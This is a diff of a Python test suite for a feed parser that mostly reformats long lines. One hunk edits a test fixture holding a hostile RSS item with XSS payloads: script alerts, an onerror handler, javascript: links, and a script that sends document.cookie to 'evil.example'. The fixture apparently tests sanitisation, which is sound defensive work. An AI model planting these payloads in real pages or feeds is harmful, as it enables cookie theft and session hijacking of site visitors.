@@ -61,7 +61,9 @@ def _has_something(entry: dict) -> bool:
     values += [c.get("value") for c in entry.get("content", [])]
     hidden = re.compile(r"<(svg|script|style)\b.*?</\1>", re.IGNORECASE | re.DOTALL)
     values = [hidden.sub("", str(v or "")) for v in values]
-    return any(re.search(r"\w", html.unescape(re.sub(r"<[^>]*>", "", str(v or "")))) for v in values)
+    return any(
+        re.search(r"\w", html.unescape(re.sub(r"<[^>]*>", "", str(v or "")))) for v in values
+    )
 
 
 @needs_data
@@ -74,7 +76,7 @@ async def test_every_shared_feed_file_is_parsed_or_refused_with_a_reason(
     assert len(files) == 242
     brought, refused, empty_entries = {}, {}, {}
     async with make_fetcher() as fetcher:
-        for path, file in files:
+        for path, _file in files:
             try:
                 found = await probe(fetcher, server.url(path), full_text=False)
             except SourceError as exc:
@@ -94,7 +96,11 @@ async def test_every_shared_feed_file_is_parsed_or_refused_with_a_reason(
         if usable:
             assert brought.get(path, 0) > 0, f"{path}: feedparser reads entries, we brought none"
     # JSON Feeds (feedparser 6.0 reads none of them) bring items too.
-    for path in ("/nnw/files/DaringFireball.json", "/nnw/files/inessential.json", "/nnw/files/ScriptingNews.json"):
+    for path in (
+        "/nnw/files/DaringFireball.json",
+        "/nnw/files/inessential.json",
+        "/nnw/files/ScriptingNews.json",
+    ):
         assert brought[path] > 0
     for path in [p for p, _ in files if p.startswith("/feeds/feed-rs/jsonfeed/")]:
         if not path.endswith(".expected.serde.json"):
@@ -103,7 +109,10 @@ async def test_every_shared_feed_file_is_parsed_or_refused_with_a_reason(
     assert len(brought) >= 150
     # The two HTML home pages are not feeds: they are read as pages (their advertised feeds
     # are not on the test server), never as feeds.
-    assert "/nnw/files/DaringFireball.html" not in refused or "feed" in refused["/nnw/files/DaringFireball.html"]
+    assert (
+        "/nnw/files/DaringFireball.html" not in refused
+        or "feed" in refused["/nnw/files/DaringFireball.html"]
+    )
 
 
 @needs_data
@@ -125,8 +134,10 @@ HOSTILE = b"""<?xml version="1.0" encoding="utf-8"?>
  <title><![CDATA[Talks resume <script>alert("x")</script><img src=x onerror=alert(1)>]]></title>
  <link>javascript:alert(document.cookie)</link>
  <guid isPermaLink="false">hostile-1</guid>
- <description><![CDATA[<p>Envoys met in Manila.</p><style>body{background:url(javascript:alert(1))}</style>
- <script type="text/javascript">document.location.href='http://evil.example/'+document.cookie</script>
+ <description><![CDATA[<p>Envoys met in Manila.</p>
+ <style>body{background:url(javascript:alert(1))}</style>
+ <script type="text/javascript">document.location.href='http://evil.example/'
+ +document.cookie</script>
  <iframe src="javascript:alert(2)">inside iframe</iframe><object data="x.swf">obj</object>
  <a href="javascript:alert(3)" onclick="alert(4)">a link</a>
  <svg><script>alert(5)</script></svg><noscript>no script</noscript>
@@ -325,8 +336,11 @@ def test_to_draft_carries_the_item() -> None:
     [
         (b"", None, "empty"),
         (b"   \n\t ", None, "empty"),
-        (b"<!DOCTYPE html><html><head><title>Hi</title></head><body>Hi</body></html>",
-         "text/html", "HTML page"),
+        (
+            b"<!DOCTYPE html><html><head><title>Hi</title></head><body>Hi</body></html>",
+            "text/html",
+            "HTML page",
+        ),
         (b"\x00\x01\x02garbage\xff\xfe", None, "not"),
         (b"just some words, no markup", "text/plain", "not"),
         (b'{"hello": "world"}', "application/json", "not a JSON Feed"),
